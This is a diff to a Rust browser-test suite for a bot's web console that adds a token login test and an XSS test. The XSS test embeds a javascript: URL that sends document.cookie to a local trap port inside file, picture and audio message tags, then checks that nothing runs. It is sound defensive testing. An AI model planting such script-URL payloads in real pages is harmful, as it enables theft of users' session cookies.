@@ -340,15 +340,9 @@ async fn on_a_phone_width_screen_the_panels_take_turns() {
     assert_eq!(browser.errors().await, json!([]), "script errors");
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn with_a_password_the_console_asks_for_it_once() {
-    let server = Server::start_with(|settings| {
-        settings.api.password = Some("s3cret".into());
-    })
-    .await;
-    let Some(browser) = Browser::start("password", 1280, 800).await else {
-        return;
-    };
+/// Opens the console of a lizi with credentials, checks that it shows nothing before the
+/// login dialog is answered, types `secret` into the dialog's `field` and logs in.
+async fn log_in(server: &Server, browser: &Browser, field: &str, secret: &str) {
     browser
         .client
         .goto(&server.url("/console"))
@@ -371,7 +365,7 @@ async fn with_a_password_the_console_asks_for_it_once() {
         0,
         "nothing is shown before logging in"
     );
-    browser.type_into("#login-password", "s3cret").await;
+    browser.type_into(field, secret).await;
     browser.click("#login-form button[type='submit']").await;
     browser
         .until(
@@ -380,6 +374,18 @@ async fn with_a_password_the_console_asks_for_it_once() {
             "return document.querySelectorAll('#who option').length > 3",
         )
         .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn with_a_password_the_console_asks_for_it_once() {
+    let server = Server::start_with(|settings| {
+        settings.api.password = Some("s3cret".into());
+    })
+    .await;
+    let Some(browser) = Browser::start("password", 1280, 800).await else {
+        return;
+    };
+    log_in(&server, &browser, "#login-password", "s3cret").await;
     // A wrong password is refused with its reason.
     let response = server
         .client
@@ -770,5 +776,140 @@ async fn the_member_panel_paging_drops_and_the_state_and_world_tabs() {
         .clone();
     assert_eq!(helper["online"], false);
     browser.shot("world").await;
+    assert_eq!(browser.errors().await, json!([]), "script errors");
+}
+
+/// A port that counts the connections made to it: anything that reaches it was sent by a
+/// script that ran in the page.
+async fn trap() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind the trap");
+    let port = listener.local_addr().expect("address").port();
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = hits.clone();
+    tokio::spawn(async move {
+        while let Ok((_stream, _)) = listener.accept().await {
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+    (port, hits)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_link_that_would_run_a_script_is_shown_as_text_and_runs_nothing() {
+    let server = Server::start().await;
+    let Some(browser) = Browser::start("script-link", 1280, 800).await else {
+        return;
+    };
+    let (port, hits) = trap().await;
+    open_group_as_alice(&server, &browser).await;
+    let script = format!("javascript:fetch('http://127.0.0.1:{port}/'+document.cookie)");
+    let text = format!(
+        "[File,name=report.pdf,url={script}] [pic,hash=0123456789ABCDEF0123456789ABCDEF,url={script}] \
+         [Audio,hash=0123456789ABCDEF0123456789ABCDEF,url={script}] \
+         [File,name=notes.pdf,url=https://files.example.invalid/notes.pdf]"
+    );
+    let sent = server
+        .call(
+            "/sendgroupmsg",
+            &format!("fromqq=10001&togroup=30001&text={}", common::enc(&text)),
+        )
+        .await;
+    assert!(sent["ret"].as_str().is_some(), "{sent}");
+    browser
+        .until(
+            10,
+            "the bot's message",
+            "return [...document.querySelectorAll('.msg .bubble')] \
+             .some(b => b.textContent.includes('report.pdf'))",
+        )
+        .await;
+    browser.shot("script-link").await;
+    // No link or source in the page points at a script; the web link stays a link.
+    let scripted = browser
+        .run(
+            "return [...document.querySelectorAll('[href],[src]')] \
+             .map(e => e.getAttribute('href') || e.getAttribute('src')) \
+             .filter(url => !/^(https?:|\\/)/i.test(url.trim()))",
+            vec![],
+        )
+        .await;
+    assert_eq!(
+        scripted,
+        json!([]),
+        "links and sources that are not web URLs"
+    );
+    let web = browser
+        .run(
+            "const a = [...document.querySelectorAll('.msg a.file')] \
+             .find(a => a.textContent.includes('notes.pdf')); return a && a.href",
+            vec![],
+        )
+        .await;
+    assert_eq!(web, "https://files.example.invalid/notes.pdf");
+    // Clicking what shows the file runs nothing: no request, no navigation.
+    let before = browser.run("return location.href", vec![]).await;
+    browser
+        .run(
+            "const f = [...document.querySelectorAll('.msg .file')] \
+             .find(f => f.textContent.includes('report.pdf')); \
+             f.id = 'bad-file'; return true",
+            vec![],
+        )
+        .await;
+    browser.click("#bad-file").await;
+    tokio::time::sleep(Duration::from_millis(1000)).await;
+    assert_eq!(browser.run("return location.href", vec![]).await, before);
+    assert_eq!(
+        hits.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "a script in the page reached the trap"
+    );
+    assert_eq!(browser.errors().await, json!([]), "script errors");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn with_a_token_the_console_logs_in_and_no_script_can_read_it() {
+    const TOKEN: &str = "t0ken-for-the-console";
+    let server = Server::start_with(|settings| settings.api.token = Some(TOKEN.into())).await;
+    let Some(browser) = Browser::start("token", 1280, 800).await else {
+        return;
+    };
+    log_in(&server, &browser, "#login-token", TOKEN).await;
+    // The token is nowhere a script can read it: not in storage, not in a cookie.
+    let readable = browser
+        .run(
+            "const all = [document.cookie, document.documentElement.outerHTML]; \
+             for (const store of [sessionStorage, localStorage]) \
+               for (let i = 0; i < store.length; i++) all.push(store.getItem(store.key(i))); \
+             return all.filter(text => text.includes(arguments[0])).length",
+            vec![json!(TOKEN)],
+        )
+        .await;
+    assert_eq!(readable, 0, "the token is readable by the page's scripts");
+    // The event stream is open with the cookie: a bot's message shows live.
+    browser
+        .run(
+            "document.querySelector('#side-tabs [data-tab=events]').click(); return true",
+            vec![],
+        )
+        .await;
+    let sent = server
+        .client
+        .post(server.url("/sendgroupmsg"))
+        .bearer_auth(TOKEN)
+        .body("fromqq=10001&togroup=30001&text=live")
+        .send()
+        .await
+        .expect("send");
+    assert_eq!(sent.status().as_u16(), 200);
+    browser
+        .until(
+            10,
+            "the event in the events tab",
+            "return document.querySelector('#event-list').textContent.includes('live')",
+        )
+        .await;
     assert_eq!(browser.errors().await, json!([]), "script errors");
 }
